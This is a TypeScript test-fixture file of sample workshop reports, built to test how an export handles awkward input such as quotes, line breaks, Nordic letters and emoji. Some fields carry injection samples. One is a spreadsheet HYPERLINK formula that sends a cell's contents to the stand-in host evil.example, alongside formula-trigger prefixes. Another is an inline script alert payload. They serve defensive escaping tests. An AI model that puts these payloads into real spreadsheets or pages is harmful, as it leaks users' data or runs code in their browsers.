import type { Report, ReportAgreement, ReportWorkshop } from "@/lib/domain/report";

/**
 * Reports built by hand with what people really type into agreements: quotes, commas,
 * semicolons, line breaks of both kinds, Dutch and Norwegian letters, emoji, text that a
 * spreadsheet would run as a formula, Markdown that would render, and a very long what.
 */

export const WORKSHOP: ReportWorkshop = {
  code: "ABC234",
  title: 'Klantreis Q3: Økonomi & Sales, "één" team; *samen*',
  date: "2025-03-14",
  endedAt: "2025-03-14T16:30:05.000Z",
  teams: [
    { id: "t1", name: "Sales" },
    { id: "t2", name: "Økonomi" },
    { id: "t3", name: "Juridisch, Compliance & Audit" },
  ],
  participants: 14,
};

export function agreement(overrides: Partial<ReportAgreement> & Pick<ReportAgreement, "id" | "what">): ReportAgreement {
  return {
    kind: "agreement",
    ownerTeam: "Sales",
    ownerName: "Sanne de Vries",
    buddyTeam: "Økonomi",
    buddyName: "Åse Ærlig",
    dueDate: "2025-04-30",
    reviewDate: "2025-06-30",
    metric: { name: "error reports", baseline: "10%", target: "5%" },
    legalCheck: { needed: false, note: "" },
    endorsements: 0,
    status: "not-started",
    measured: "",
    progress: null,
    history: [],
    carriedFrom: null,
    ...overrides,
  };
}

/** Over 2,000 characters, Norwegian, with no line break of its own. */
export const LONG_WHAT = "Vi gjør fakturaen lettere å forstå for kundene, og følger opp hver klage innen én arbeidsdag. ".repeat(24).trim();

export const TRICKY_WHAT = '*bold* [link](x) <script>alert("x")</script> | pipe, # hash; `code` & more';

/** Line breaks as browsers send them (CRLF) and as people paste them (LF), with would-be Markdown. */
export const MULTILINE_NOTE = "Check with the DPO first.\r\n- not a list\n# not a heading\r\n===\n1. not ordered\n\nLast line \\ with a backslash";

export const AGREEMENTS: ReportAgreement[] = [
  agreement({
    id: "a1",
    what: "Answer every complaint within één werkdag,\r\nand say who follows up",
    legalCheck: { needed: true, note: MULTILINE_NOTE },
    endorsements: 7,
    status: "on-track",
    measured: "7.5%",
    progress: 0.5,
  }),
  agreement({
    id: "a2",
    what: '=HYPERLINK("http://evil.example/?d="&A1,"Click here")',
    ownerName: "+1 Anna",
    ownerTeam: "-2 Support",
    buddyTeam: null,
    buddyName: "",
    dueDate: "2025-12-31",
    reviewDate: "2026-01-15",
    metric: { name: "@SUM(A1:A9)", baseline: "\tten", target: "\r5" },
    endorsements: 0,
    status: "not-started",
    measured: "",
    progress: null,
  }),
  agreement({
    id: "a3",
    what: TRICKY_WHAT,
    ownerName: 'Seán O\'Brien, "Bob"; Jr.',
    ownerTeam: "Juridisch, Compliance & Audit",
    buddyTeam: "Sales",
    buddyName: "Ine Ødegård",
    metric: { name: "reply time; median", baseline: "-5%", target: "0,5 days" },
    endorsements: 3,
    status: "at-risk",
    measured: "-5%",
    progress: 0,
  }),
  agreement({
    id: "a4",
    what: LONG_WHAT,
    ownerTeam: "Økonomi",
    ownerName: "Ærlig Øystein",
    buddyTeam: "Sales",
    buddyName: "Björn Łukasz",
    legalCheck: { needed: true, note: "Audit signs off 🎉 before launch 👩🏽‍💻 ✅" },
    endorsements: 12,
    status: "done",
    measured: "5%",
    progress: 1,
  }),
  agreement({
    id: "c1",
    kind: "carry-over",
    what: "Each team runs a 30-minute “in their shoes” session for those who weren't here 🙌",
    ownerTeam: "Økonomi",
    ownerName: "Kari Nordmann",
    buddyTeam: "Juridisch, Compliance & Audit",
    buddyName: "Joost van Dijk",
    dueDate: "2025-05-15",
    reviewDate: "2025-05-31",
    metric: { name: "colleagues reached", baseline: "0", target: "40" },
    endorsements: 9,
    status: "on-track",
    measured: "12",
    progress: 0.3,
    carriedFrom: 'Voorjaarssessie "samen", 2024',
  }),
];

function report(workshop: ReportWorkshop, agreements: ReportAgreement[]): Report {
  return { workshop, agreements, mirrors: [], beliefs: [], strengths: [], pulse: [], topIdeas: [] };
}

export const FULL_REPORT = report(WORKSHOP, AGREEMENTS);

/** A workshop that agreed on nothing, still running (no end time). */
export const EMPTY_REPORT = report({ ...WORKSHOP, code: "EMP234", title: "Nothing agreed (yet)", endedAt: null }, []);

/** Fifty ordinary agreements: enough for several PDF pages. */
export const FIFTY_REPORT = report(
  { ...WORKSHOP, code: "FIF234", title: "Fifty agreements" },
  Array.from({ length: 50 }, (_, i) =>
    agreement({
      id: `f${i + 1}`,
      what: `Agreement number ${i + 1}: share what Økonomi learns with Sales every week, and ask what they heard from customers`,
      endorsements: i % 7,
      status: (["not-started", "on-track", "at-risk", "done"] as const)[i % 4],
    }),
  ),
);
